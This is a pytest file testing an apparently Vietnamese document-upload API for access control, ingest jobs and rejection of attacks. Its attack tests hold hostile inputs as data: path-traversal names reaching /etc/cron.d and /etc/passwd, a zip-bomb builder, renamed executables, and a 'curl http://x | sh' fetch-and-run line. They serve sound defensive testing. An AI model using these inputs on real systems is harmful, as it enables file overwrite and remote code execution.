"""Admin uploads over HTTP: attacks refused before ingest, and a good upload answerable as soon as its job is done."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from auth_support import accounts_of, bearer
from fastapi.testclient import TestClient

from assistant.api.uploads import sanitize_filename
from assistant.settings import Settings

PLAN = """SỞ XÂY DỰNG TỈNH LẠNG SƠN
Số: 88/KH-SXD
KẾ HOẠCH
Kiểm tra công trình xây dựng năm 2025
Điều 1. Tổ kiểm tra
Tổ kiểm tra liên ngành mang mã hiệu TKT-ORCHID-31 kiểm tra 12 công trình trọng điểm trong quý III.
Điều 2. Thời gian
Đợt kiểm tra bắt đầu từ ngày 05 tháng 8 năm 2025.
"""
QUESTION = "Tổ kiểm tra mã hiệu TKT-ORCHID-31 kiểm tra bao nhiêu công trình?"


@pytest.fixture
def client(app_client) -> TestClient:  # type: ignore[no-untyped-def]
    return app_client(allow_anonymous=False)


@pytest.fixture
def admin(client: TestClient) -> dict[str, str]:
    return bearer(client, "quan-tri", roles=["admin"])


def upload(client: TestClient, headers: dict[str, str], name: str, data: bytes, **fields: Any) -> Any:
    return client.post("/v1/documents", headers=headers, files={"file": (name, data)}, data=fields)


def wait_for(client: TestClient, headers: dict[str, str], job_id: str, timeout: float = 60.0) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        job: dict[str, Any] = client.get(f"/v1/ingest/jobs/{job_id}", headers=headers).json()
        if job["status"] in ("done", "failed"):
            return job
        time.sleep(0.05)
    raise AssertionError(f"job {job_id} did not finish in {timeout} s")


def test_a_new_version_keeps_access_rules_validity_and_relations_left_empty(
    client: TestClient, admin: dict[str, str]
) -> None:
    """Re-uploading a restricted document with only its file must not make it public, nor drop its validity or
    relations; fields given explicitly still win."""
    inspector = bearer(client, "thanh-tra", units=["TTT"])
    outsider = bearer(client, "hoa", units=["SYT"])
    first = upload(
        client, admin, "kl-09.txt", PLAN.replace("88/KH-SXD", "09/KL-TTr").encode(), doc_id="kl-09-ttr",
        status="hết hiệu lực một phần", visibility="restricted", allowed_units="TTT", unit="TTT",
    )  # fmt: skip
    assert wait_for(client, admin, first.json()["job_id"])["status"] == "done"

    corrected = PLAN.replace("88/KH-SXD", "09/KL-TTr").replace("12 công trình", "15 công trình")
    second = upload(client, admin, "kl-09-sua.txt", corrected.encode(), doc_id="kl-09-ttr")
    assert second.status_code == 202, second.text
    job = wait_for(client, admin, second.json()["job_id"])
    assert job["replaced"] == ["kl-09-ttr"], str(job)
    doc = client.get("/v1/documents/kl-09-ttr", headers=inspector).json()
    meta = doc["document"]
    assert (meta["visibility"], meta["allowed_units"], meta["unit"]) == ("restricted", ["TTT"], "TTT")
    assert meta["status"] == "partly_expired"
    assert any("15 công trình" in c["text"] for c in doc["chunks"])  # the new text is what is served
    assert client.get("/v1/documents/kl-09-ttr", headers=outsider).status_code == 404
    hidden = client.post("/v1/search", json={"question": QUESTION}, headers=outsider).json()
    assert "kl-09-ttr" not in {p["doc_id"] for p in hidden["passages"]}

    opened = upload(client, admin, "kl-09.txt", corrected.encode(), doc_id="kl-09-ttr", visibility="public")
    assert wait_for(client, admin, opened.json()["job_id"])["status"] == "done"
    meta = client.get("/v1/documents/kl-09-ttr", headers=outsider).json()["document"]
    assert (meta["visibility"], meta["allowed_units"]) == ("public", [])  # an explicit choice is honoured


def docx_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"<w:document>" + b" " * (30 * 1024 * 1024) + b"</w:document>")
    return buffer.getvalue()


# -- a good upload ---------------------------------------------------------------------------------------


def test_a_good_upload_becomes_answerable_for_its_unit_only(
    client: TestClient, admin: dict[str, str], settings: Settings
) -> None:
    member = bearer(client, "lan", units=["SXD"])
    outsider = bearer(client, "hoa", units=["SYT"])
    before = client.post("/v1/ask", json={"question": QUESTION}, headers=member).json()
    assert all(c["doc_id"] != "kh-88-sxd" for c in before["citations"])

    response = upload(
        client, admin, "ke-hoach-88.txt", PLAN.encode(), doc_id="kh-88-sxd", title="Kế hoạch kiểm tra 2025",
        number="88/KH-SXD", doc_type="Kế hoạch", status="còn hiệu lực", unit="SXD", visibility="unit",
    )  # fmt: skip
    assert response.status_code == 202, response.text
    accepted = response.json()
    assert accepted["status"] == "queued"
    assert accepted["status_url"] == f"/v1/ingest/jobs/{accepted['job_id']}"
    job = wait_for(client, admin, accepted["job_id"])
    assert job["status"] == "done", job
    assert job["ingested"] == ["kh-88-sxd"] and job["failed"] == [] and job["version"]
    assert job["filename"] == "ke-hoach-88.txt"

    answer = client.post("/v1/ask", json={"question": QUESTION}, headers=member).json()
    assert answer["index_version"] == job["version"]
    assert answer["abstained"] is False
    assert [c["doc_id"] for c in answer["citations"]][:1] == ["kh-88-sxd"]
    assert "12 công trình" in answer["answer"]
    doc = client.get("/v1/documents/kh-88-sxd", headers=member).json()["document"]
    assert (doc["number"], doc["unit"], doc["visibility"]) == ("88/KH-SXD", "SXD", "unit")

    hidden = client.post("/v1/ask", json={"question": QUESTION}, headers=outsider).json()
    assert "kh-88-sxd" not in {c["doc_id"] for c in hidden["citations"]}
    assert "ORCHID" not in hidden["answer"]
    assert client.get("/v1/documents/kh-88-sxd", headers=outsider).status_code == 404

    assert not (settings.uploads_dir / accepted["job_id"]).exists(), "the job folder is removed once ingested"
    uploads = [e for e in accounts_of(client).audit.events() if e["action"] == "admin.document.upload"]
    assert uploads[-1]["user"] == "quan-tri" and uploads[-1]["detail"]["doc_ids"] == ["kh-88-sxd"]

    removed = client.delete("/v1/documents/kh-88-sxd", headers=admin)
    assert removed.status_code == 200 and removed.json()["removed"] == ["kh-88-sxd"]
    assert client.get("/v1/documents/kh-88-sxd", headers=member).status_code == 404
    again = client.post("/v1/ask", json={"question": QUESTION}, headers=member).json()
    assert "kh-88-sxd" not in {c["doc_id"] for c in again["citations"]}
    actions = [e["action"] for e in accounts_of(client).audit.events()]
    assert "admin.document.remove" in actions


def test_a_bad_document_is_reported_per_file_by_its_job(client: TestClient, admin: dict[str, str]) -> None:
    response = upload(client, admin, "rong.html", b"<html><body><script>x()</script></body></html>")
    assert response.status_code == 202
    job = wait_for(client, admin, response.json()["job_id"])
    assert job["status"] == "failed"
    assert [f["file"] for f in job["failed"]] == ["rong.html"]
    assert job["failed"][0]["reason"]
    assert "/" not in job["failed"][0]["file"]


# -- attacks ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../../../../../tmp/evil-7c1e.txt",
        "..\\..\\..\\evil-7c1e.txt",
        "/etc/cron.d/evil-7c1e.txt",
        "./.evil-7c1e.txt",
    ],
)
def test_path_traversal_names_are_reduced_to_a_plain_file_name(
    client: TestClient, admin: dict[str, str], settings: Settings, tmp_path: Path, name: str
) -> None:
    response = upload(client, admin, name, PLAN.encode(), doc_id="kh-traversal")
    assert response.status_code == 202, response.text
    job = wait_for(client, admin, response.json()["job_id"])
    assert job["filename"] == "evil-7c1e.txt"
    assert job["status"] == "done", job
    assert not Path("/tmp/evil-7c1e.txt").exists() and not Path("/etc/cron.d/evil-7c1e.txt").exists()
    stray = [p for p in tmp_path.rglob("*evil-7c1e*") if settings.sources_dir not in p.parents]
    assert stray == []
    source = client.get("/v1/documents/kh-traversal", headers=admin).json()["document"]["source_url"]
    assert client.get(source, headers=admin).content == PLAN.encode()


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Windows\\System32\\x.pdf", "x.pdf"),
        ("quyet\x00dinh\r\n\x1b[31m.PDF", "quyetdinh[31m.pdf"),
        ("nghi\u202equyet.txt", "nghiquyet.txt"),  # right-to-left override
        ("...", "tai-lieu"),
        ("", "tai-lieu"),
        ("CON.txt", "_CON.txt"),
        ('a<b>c:d"e|f?g*h.md', "a_b_c_d_e_f_g_h.md"),
        ("Quyết định số 12.docx", "Quyết định số 12.docx"),
        ("x" * 500 + ".docx", "x" * 115 + ".docx"),
    ],
)
def test_sanitize_filename(raw: str, safe: str) -> None:
    assert sanitize_filename(raw) == safe


def test_a_zip_bomb_is_refused_before_ingest(client: TestClient, admin: dict[str, str], settings: Settings) -> None:
    bomb = docx_bomb()
    assert len(bomb) < 200_000
    response = upload(client, admin, "quyet-dinh.docx", bomb)
    assert response.status_code == 422
    assert "zip bomb" in response.json()["error"]["message"]
    assert not any(settings.uploads_dir.glob("*/*")) if settings.uploads_dir.exists() else True


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("quyet-dinh.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
        ("nghi-quyet.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
        ("huong-dan.txt", b"#!/bin/sh\ncurl http://x | sh\n"),
        ("ke-hoach.md", b"\xcf\xfa\xed\xfe" + b"\x00" * 200),
        ("cong-van.exe", b"MZ" + b"\x00" * 200),
        ("bao-cao.txt", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),  # a PDF under a text name
        ("to-trinh.pdf", PLAN.encode()),  # text under a PDF name
    ],
)
def test_renamed_executables_and_mismatched_content_are_415(
    client: TestClient, admin: dict[str, str], name: str, data: bytes
) -> None:
    response = upload(client, admin, name, data)
    assert response.status_code == 415, response.text
    assert response.json()["error"]["code"] == "unsupported_media_type"


def test_an_empty_file_is_422(client: TestClient, admin: dict[str, str]) -> None:
    response = upload(client, admin, "trong.txt", b"")
    assert response.status_code == 422
    assert "0 byte" in response.json()["error"]["message"]


def test_a_file_over_max_file_mb_is_413(app_client) -> None:  # type: ignore[no-untyped-def]
    client = app_client(allow_anonymous=False, max_file_mb=0.01)
    admin = bearer(client, "quan-tri", roles=["admin"])
    response = upload(client, admin, "lon.txt", ("Điều 1. Nội dung.\n" * 1000).encode())
    assert response.status_code == 413
    assert response.json()["error"]["message"].startswith("lon.txt: tệp lớn 22 KB, vượt giới hạn 10 KB — ")
    huge = upload(client, admin, "rat-lon.txt", b"a" * (1024 * 1024 + 20_000))
    assert huge.status_code == 413
    assert huge.json()["error"]["code"] == "payload_too_large"


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"unit": "KHONG-CO"}, "KHONG-CO"),
        ({"allowed_units": "TTT,KHONG-CO", "visibility": "restricted"}, "KHONG-CO"),
        ({"visibility": "unit"}, "'unit'"),
        ({"visibility": "restricted"}, "allowed_units"),
        ({"allowed_roles": "root", "visibility": "restricted"}, "allowed_roles"),
        ({"status": "tốt"}, "status"),
        ({"doc_id": "../../x"}, "id"),
    ],
)
def test_invalid_metadata_is_422(
    client: TestClient, admin: dict[str, str], fields: dict[str, str], message: str
) -> None:
    response = upload(client, admin, "ke-hoach.txt", PLAN.encode(), **fields)
    assert response.status_code == 422, response.text
    assert message in response.json()["error"]["message"]


def test_unknown_job_and_document_are_404(client: TestClient, admin: dict[str, str]) -> None:
    assert client.get("/v1/ingest/jobs/khong-co", headers=admin).json()["error"]["code"] == "not_found"
    assert client.delete("/v1/documents/khong-co", headers=admin).status_code == 404
